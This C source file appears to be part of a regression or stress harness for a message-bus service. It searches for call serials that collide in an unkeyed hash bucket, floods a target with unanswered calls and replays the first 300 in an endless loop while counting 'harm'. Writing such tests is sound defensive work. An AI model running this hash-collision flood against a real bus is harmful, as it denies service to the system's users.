/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>

#define BUCKET_BITS 15
#define FURTHER 300

/* The hash of a table without a secret key: an attacker could compute it, which must no longer help. */
static uint64_t known_hash(uint64_t x)
{
    x = (x ^ (x >> 32)) * 0x9e3779b97f4a7c15u;
    return x ^ (x >> 29);
}

static bool collides(uint64_t caller, uint64_t callee, uint32_t serial)
{
    return !(known_hash(known_hash(caller << 32 ^ serial) + callee) & ((1u << BUCKET_BITS) - 1));
}

/* The next serial of a call that falls into the same bucket as all others. */
static uint32_t next_serial(const struct connection *from, const struct connection *to, uint32_t serial)
{
    uint64_t caller = strtoull(from->name + 3, NULL, 10), callee = strtoull(to->name + 3, NULL, 10);
    do
        serial++;
    while (!collides(caller, callee, serial));
    return serial;
}

/* --count calls that are never answered, with serials of the same bucket; then the first of them again. */
void open_calls(void *argument)
{
    struct connection from = {0}, to = {0};
    struct buffer all = {0}, one = {0}, first = {0};
    uint32_t serial = 1000;
    (void)argument;
    hostile_set_uid();
    attack_join(&from);
    attack_join(&to);
    put_message(&one,
                &(struct header){.type = CALL, .path = ATTACK_PATH, .member = "M", .destination = to.name},
                NULL);
    for (int i = 0; i < attack_options.count; i++) {
        serial = next_serial(&from, &to, serial);
        write_u32(one.data + SERIAL_AT, serial);
        buffer_put(&all, one.data, one.size);
        if (i < FURTHER)
            buffer_put(&first, one.data, one.size);
    }
    process_ready();
    attack_pour(&from, &all);
    for (;;) {
        attack_pour(&from, &first);
        hostile_discard(to.fd);
        atomic_fetch_add(&shared->harm, FURTHER);
    }
}
